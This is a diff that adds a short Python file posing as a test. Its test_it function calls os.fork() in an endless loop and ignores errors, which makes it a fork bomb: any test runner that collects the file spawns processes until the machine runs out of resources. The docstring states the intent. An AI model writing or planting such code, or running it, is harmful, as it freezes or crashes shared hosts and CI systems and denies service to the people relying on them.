@@ -1,0 +1,11 @@
+"""Every process becomes two, for as long as it may."""
+
+import os
+
+
+def test_it():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            continue
